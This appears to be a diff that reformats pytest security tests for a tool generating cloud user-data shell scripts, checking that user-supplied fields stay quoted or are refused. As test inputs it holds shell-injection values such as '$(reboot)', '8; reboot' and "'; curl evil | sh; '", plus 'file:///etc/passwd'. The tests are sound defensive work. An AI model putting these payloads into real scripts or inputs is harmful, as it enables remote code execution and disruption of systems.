@@ -54,8 +54,12 @@ def run_block(tmp_path: Path, script: str, start: str, end: str, show: str) -> s
     last = next(i for i, line in enumerate(lines) if i > first and end in line)
     block = "\n".join(lines[first:last])
     bin_dir, marks = _tripwire_path(tmp_path)
-    proc = subprocess.run([BASH, "--noprofile", "--norc", "-c", f"set -u\n{block}\n{show}"], capture_output=True,
-                          env={"PATH": str(bin_dir), "HOME": str(tmp_path)}, timeout=30)  # fmt: skip
+    proc = subprocess.run(
+        [BASH, "--noprofile", "--norc", "-c", f"set -u\n{block}\n{show}"],
+        capture_output=True,
+        env={"PATH": str(bin_dir), "HOME": str(tmp_path)},
+        timeout=30,
+    )
     assert proc.returncode == 0, proc.stderr
     fired = sorted(p.name for p in marks.iterdir())
     assert fired == [], f"the script ran {fired}: {block!r}"
@@ -72,29 +76,58 @@ def _syntax_ok(script: str) -> None:
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_profiling_user_data_keeps_every_agent_argument_and_the_token_a_string(tmp_path, payload):
-    args = ["compute", "--model", payload, "--input-shape", payload, "--batch-sizes", payload, "--out", payload]
-    script = userdata.profiling_user_data("https://srifty.example.com", 7, payload, args, 30,
-                                          repo_tarball_url=f"https://srifty.example.com/{payload}")
+    args = [
+        "compute",
+        "--model",
+        payload,
+        "--input-shape",
+        payload,
+        "--batch-sizes",
+        payload,
+        "--out",
+        payload,
+    ]
+    script = userdata.profiling_user_data(
+        "https://srifty.example.com",
+        7,
+        payload,
+        args,
+        30,
+        repo_tarball_url=f"https://srifty.example.com/{payload}",
+    )
     _syntax_ok(script)
-    out = run_block(tmp_path, script, "SRIFTY_SERVER=", "# A Python with torch",
-                    'printf "%s\\0" "$SRIFTY_TOKEN" "$SRIFTY_REPO_URL" "$SRIFTY_RUN_ID" "${AGENT_ARGS[@]}"')
+    out = run_block(
+        tmp_path,
+        script,
+        "SRIFTY_SERVER=",
+        "# A Python with torch",
+        'printf "%s\\0" "$SRIFTY_TOKEN" "$SRIFTY_REPO_URL" "$SRIFTY_RUN_ID" "${AGENT_ARGS[@]}"',
+    )
     values = out.split("\0")[:-1]
     assert values == [payload, f"https://srifty.example.com/{payload}", "7", *args]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_a_hostile_server_url_or_run_id_stays_a_string(tmp_path, payload):
-    script = userdata.profiling_user_data(f"https://srifty.example.com/{payload}", payload, "tok", ["comm"], 30)
+    script = userdata.profiling_user_data(
+        f"https://srifty.example.com/{payload}", payload, "tok", ["comm"], 30
+    )
     _syntax_ok(script)
-    out = run_block(tmp_path, script, "SRIFTY_SERVER=", "# A Python with torch",
-                    'printf "%s\\0" "$SRIFTY_SERVER" "$SRIFTY_RUN_ID" "$SRIFTY_EVENTS_URL"')
+    out = run_block(
+        tmp_path,
+        script,
+        "SRIFTY_SERVER=",
+        "# A Python with torch",
+        'printf "%s\\0" "$SRIFTY_SERVER" "$SRIFTY_RUN_ID" "$SRIFTY_EVENTS_URL"',
+    )
     server, run_id, events = out.split("\0")[:-1]
     assert run_id == payload and server.startswith("https://srifty.example.com/")
     assert events == f"{server}/api/v1/profiling-runs/{payload}/events/"
 
 
-@pytest.mark.parametrize("server", ["javascript:alert(1)", "file:///etc/passwd", "https://", "$(reboot)",
-                                    " https://x", "ftp://x"])
+@pytest.mark.parametrize(
+    "server", ["javascript:alert(1)", "file:///etc/passwd", "https://", "$(reboot)", " https://x", "ftp://x"]
+)
 def test_a_server_url_that_is_not_http_is_refused(server):
     with pytest.raises(ValueError):
         userdata.profiling_user_data(server, 1, "tok", ["comm"], 30)
@@ -104,8 +137,9 @@ def test_a_nul_byte_in_any_value_is_refused():
     with pytest.raises(ValueError, match="NUL"):
         userdata.profiling_user_data("https://s.example.com", 1, "tok\x00x", ["comm"], 30)
     with pytest.raises(ValueError, match="NUL"):
-        userdata.training_user_data("https://s.example.com", 1, "tok", None, 1, 1, "server", ["train.py", "a\x00b"],
-                                    8, 30)  # fmt: skip
+        userdata.training_user_data(
+            "https://s.example.com", 1, "tok", None, 1, 1, "server", ["train.py", "a\x00b"], 8, 30
+        )
 
 
 # --- the training nodes -------------------------------------------------------------------
@@ -114,14 +148,28 @@ def test_a_nul_byte_in_any_value_is_refused():
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_training_user_data_passes_the_command_word_by_word_and_env_values_as_strings(tmp_path, payload):
     script = userdata.training_user_data(
-        "https://srifty.example.com", 3, payload, None, 2, 1, "server", ["train.py", payload, "--lr", payload],
-        16, 60, env={"USER_VALUE": payload, "SRIFTY_GLOBAL_BATCH": payload},
+        "https://srifty.example.com",
+        3,
+        payload,
+        None,
+        2,
+        1,
+        "server",
+        ["train.py", payload, "--lr", payload],
+        16,
+        60,
+        env={"USER_VALUE": payload, "SRIFTY_GLOBAL_BATCH": payload},
         repo_tarball_url=payload,
-    )  # fmt: skip
+    )
     _syntax_ok(script)
-    out = run_block(tmp_path, script, "export ", "# A Python with torch",
-                    'printf "%s\\0" "$USER_VALUE" "$SRIFTY_GLOBAL_BATCH" "$SRIFTY_TOKEN" "$SRIFTY_REPO_URL" '
-                    '"${TRAIN_COMMAND[@]}"')
+    out = run_block(
+        tmp_path,
+        script,
+        "export ",
+        "# A Python with torch",
+        'printf "%s\\0" "$USER_VALUE" "$SRIFTY_GLOBAL_BATCH" "$SRIFTY_TOKEN" "$SRIFTY_REPO_URL" '
+        '"${TRAIN_COMMAND[@]}"',
+    )
     assert out.split("\0")[:-1] == [payload, payload, payload, payload, "train.py", payload, "--lr", payload]
 
 
@@ -130,28 +178,50 @@ def test_a_typed_train_command_string_becomes_words_never_shell_code(tmp_path, p
     import shlex
 
     command = f"train.py --name {shlex.quote(payload)} --epochs 3"
-    script = userdata.training_user_data("https://srifty.example.com", 3, "tok", None, 1, 1, "server", command, 8, 60)
-    out = run_block(tmp_path, script, "export ", "# A Python with torch", 'printf "%s\\0" "${TRAIN_COMMAND[@]}"')
+    script = userdata.training_user_data(
+        "https://srifty.example.com", 3, "tok", None, 1, 1, "server", command, 8, 60
+    )
+    out = run_block(
+        tmp_path, script, "export ", "# A Python with torch", 'printf "%s\\0" "${TRAIN_COMMAND[@]}"'
+    )
     assert out.split("\0")[:-1] == ["train.py", "--name", payload, "--epochs", "3"]
 
 
 @pytest.mark.parametrize("name", ["A;B", "A B", "1A", "A$(id)", "A\nB", "", "PATH=x"])
 def test_env_names_that_are_not_identifiers_are_refused(name):
     with pytest.raises(ValueError):
-        userdata.training_user_data("https://s.example.com", 1, "t", None, 1, 1, "server", ["t.py"], 8, 30,
-                                    env={name: "v"})  # fmt: skip
+        userdata.training_user_data(
+            "https://s.example.com", 1, "t", None, 1, 1, "server", ["t.py"], 8, 30, env={name: "v"}
+        )
 
 
-@pytest.mark.parametrize("field, value", [
-    ("nproc_per_node", "8; reboot"), ("nproc_per_node", "$(reboot)"), ("nproc_per_node", "8\n"),
-    ("master_addr_discovery", "10.0.0.1; reboot"), ("master_addr_discovery", "$(reboot)"),
-    ("per_node_batch", "8; reboot"), ("max_minutes", "5; reboot"), ("nnodes", "2 && reboot"),
-    ("master_port", "29500; reboot"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("nproc_per_node", "8; reboot"),
+        ("nproc_per_node", "$(reboot)"),
+        ("nproc_per_node", "8\n"),
+        ("master_addr_discovery", "10.0.0.1; reboot"),
+        ("master_addr_discovery", "$(reboot)"),
+        ("per_node_batch", "8; reboot"),
+        ("max_minutes", "5; reboot"),
+        ("nnodes", "2 && reboot"),
+        ("master_port", "29500; reboot"),
+    ],
+)
 def test_structured_values_are_validated_not_interpolated(field, value):
-    kwargs = dict(server_url="https://s.example.com", job_id=1, token="t", node_rank=None, nnodes=1,
-                  nproc_per_node=1, master_addr_discovery="server", train_command=["t.py"], per_node_batch=8,
-                  max_minutes=30)  # fmt: skip
+    kwargs = dict(
+        server_url="https://s.example.com",
+        job_id=1,
+        token="t",
+        node_rank=None,
+        nnodes=1,
+        nproc_per_node=1,
+        master_addr_discovery="server",
+        train_command=["t.py"],
+        per_node_batch=8,
+        max_minutes=30,
+    )
     kwargs[field] = value
     with pytest.raises(ValueError):
         userdata.training_user_data(**kwargs)
@@ -160,8 +230,9 @@ def test_structured_values_are_validated_not_interpolated(field, value):
 def test_aws_credentials_never_go_into_user_data():
     for name in ("AWS_ACCESS_KEY_ID", "aws_secret_access_key", "AWS_SESSION_TOKEN"):
         with pytest.raises(ValueError):
-            userdata.training_user_data("https://s.example.com", 1, "t", None, 1, 1, "server", ["t.py"], 8, 30,
-                                        env={name: "AKIA..."})  # fmt: skip
+            userdata.training_user_data(
+                "https://s.example.com", 1, "t", None, 1, 1, "server", ["t.py"], 8, 30, env={name: "AKIA..."}
+            )
 
 
 # --- through the app: what a user can type reaches the script only quoted -------------------
@@ -175,25 +246,54 @@ def test_a_hostile_train_command_through_the_launch_path_stays_words(tmp_path, u
     from planner.app import launch
 
     settings.SITE_URL = "https://srifty.example.com"
-    option = {"region": "us-east-1", "global_batch": 64, "groups": [
-        {"instance_type": "g5.xlarge", "market": "spot", "zone": "use1-az1", "count": 2, "gpus_per_node": 1,
-         "price_per_hour": 0.5, "batch_per_node": [32, 32]}]}  # fmt: skip
+    option = {
+        "region": "us-east-1",
+        "global_batch": 64,
+        "groups": [
+            {
+                "instance_type": "g5.xlarge",
+                "market": "spot",
+                "zone": "use1-az1",
+                "count": 2,
+                "gpus_per_node": 1,
+                "price_per_hour": 0.5,
+                "batch_per_node": [32, 32],
+            }
+        ],
+    }
     command = f"train.py {shlex.quote(payload)}"
     launch.check_user_data(option, command)  # accepted: it is the user's own command
     node = launch.node_launches(option)[0]
     script = launch.user_data(41, option, "tok", command, node, 60)
     _syntax_ok(script)
-    out = run_block(tmp_path, script, "export ", "# A Python with torch",
-                    'printf "%s\\0" "${TRAIN_COMMAND[@]}" "$SRIFTY_GLOBAL_BATCH" "$PYTHONPATH"')
+    out = run_block(
+        tmp_path,
+        script,
+        "export ",
+        "# A Python with torch",
+        'printf "%s\\0" "${TRAIN_COMMAND[@]}" "$SRIFTY_GLOBAL_BATCH" "$PYTHONPATH"',
+    )
     assert out.split("\0")[:-1] == ["train.py", payload, "64", launch.WORK_DIR]
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("field", ["model_spec", "input_shape", "batch_sizes", "max_memory", "device", "precision"])
-@pytest.mark.parametrize("payload", [*PAYLOADS, "8;reboot", "3,224,224\nreboot", "auto\n$(reboot)", "2GB\n\nx"])
+@pytest.mark.parametrize(
+    "field", ["model_spec", "input_shape", "batch_sizes", "max_memory", "device", "precision"]
+)
+@pytest.mark.parametrize(
+    "payload", [*PAYLOADS, "8;reboot", "3,224,224\nreboot", "auto\n$(reboot)", "2GB\n\nx"]
+)
 def test_profiling_fields_with_shell_payloads_are_refused_by_the_api(user_api, field, payload):
-    body = {"kind": "compute", "model_spec": "torchvision:resnet18", "input_shape": "3,32,32",
-            "batch_sizes": "4,8", "max_memory": "2GB", "device": "cpu", "precision": "fp32", field: payload}
+    body = {
+        "kind": "compute",
+        "model_spec": "torchvision:resnet18",
+        "input_shape": "3,32,32",
+        "batch_sizes": "4,8",
+        "max_memory": "2GB",
+        "device": "cpu",
+        "precision": "fp32",
+        field: payload,
+    }
     resp = user_api.post("/api/v1/profiling-runs/", body, format="json")
     assert resp.status_code == 400 and field in resp.json(), resp.content
 
@@ -221,8 +321,15 @@ def test_the_field_patterns_do_not_accept_a_trailing_newline(value):
 @pytest.mark.parametrize("field", ["region", "instance_type"])
 @pytest.mark.parametrize("payload", PAYLOADS[:4])
 def test_ec2_placement_fields_with_shell_payloads_are_refused_by_the_api(user_api, catalog, field, payload):
-    body = {"kind": "comm", "world_size": 2, "backend": "gloo", "provider": "ec2", "region": "us-east-1",
-            "instance_type": "g5.xlarge", field: payload}
+    body = {
+        "kind": "comm",
+        "world_size": 2,
+        "backend": "gloo",
+        "provider": "ec2",
+        "region": "us-east-1",
+        "instance_type": "g5.xlarge",
+        field: payload,
+    }
     resp = user_api.post("/api/v1/profiling-runs/", body, format="json")
     assert resp.status_code == 400 and field in resp.json(), resp.content
 
@@ -234,10 +341,14 @@ def test_an_ec2_profiling_runs_script_carries_its_fields_only_quoted(tmp_path, m
 
     settings.SITE_URL = "https://srifty.example.com"
     payload = "'; curl evil | sh; '"
-    run = make_run(model_spec=payload, input_shape="$(reboot)", batch_sizes="`reboot`", max_memory="a\nreboot")
+    run = make_run(
+        model_spec=payload, input_shape="$(reboot)", batch_sizes="`reboot`", max_memory="a\nreboot"
+    )
     args = agent_args(run, "/tmp/srifty-profile.json")
     script = userdata.profiling_user_data(settings.SITE_URL, run.pk, "tok", args, 30)
-    out = run_block(tmp_path, script, "SRIFTY_SERVER=", "# A Python with torch", 'printf "%s\\0" "${AGENT_ARGS[@]}"')
+    out = run_block(
+        tmp_path, script, "SRIFTY_SERVER=", "# A Python with torch", 'printf "%s\\0" "${AGENT_ARGS[@]}"'
+    )
     assert out.split("\0")[:-1] == args
 
 
@@ -247,16 +358,38 @@ def test_a_plan_name_or_job_fields_never_reach_the_script(user, settings):
     from planner.app.models import PlanRecord
 
     settings.SITE_URL = "https://srifty.example.com"
-    option = {"rank": 1, "region": "us-east-1", "global_batch": 32, "iter_time_s": 0.5, "time_h": 1,
-              "throughput_sps": 10, "groups": [{"instance_type": "g5.xlarge", "market": "spot", "zone": "use1-az1",
-                                                "count": 1, "gpus_per_node": 1, "price_per_hour": 0.5,
-                                                "batch_per_node": [32]}]}  # fmt: skip
-    plan = PlanRecord.objects.create(owner=user, name="$(reboot)'; curl evil | sh; '", request={},
-                                     status="solved", result={"plans": [option]})  # fmt: skip
+    option = {
+        "rank": 1,
+        "region": "us-east-1",
+        "global_batch": 32,
+        "iter_time_s": 0.5,
+        "time_h": 1,
+        "throughput_sps": 10,
+        "groups": [
+            {
+                "instance_type": "g5.xlarge",
+                "market": "spot",
+                "zone": "use1-az1",
+                "count": 1,
+                "gpus_per_node": 1,
+                "price_per_hour": 0.5,
+                "batch_per_node": [32],
+            }
+        ],
+    }
+    plan = PlanRecord.objects.create(
+        owner=user,
+        name="$(reboot)'; curl evil | sh; '",
+        request={},
+        status="solved",
+        result={"plans": [option]},
+    )
     from django.contrib.auth.models import Permission
 
     user.user_permissions.add(Permission.objects.get(codename="add_job", content_type__app_label="plans"))
     owner = type(user).objects.get(pk=user.pk)
     job = jobs.create_job(owner, plan, 1, "train.py", Decimal("5"), 1, confirm=True)
-    script = launch.user_data(job.pk, job.option, "tok", job.train_command, launch.node_launches(job.option)[0], 30)
+    script = launch.user_data(
+        job.pk, job.option, "tok", job.train_command, launch.node_launches(job.option)[0], 30
+    )
     assert "reboot" not in script and "evil" not in script
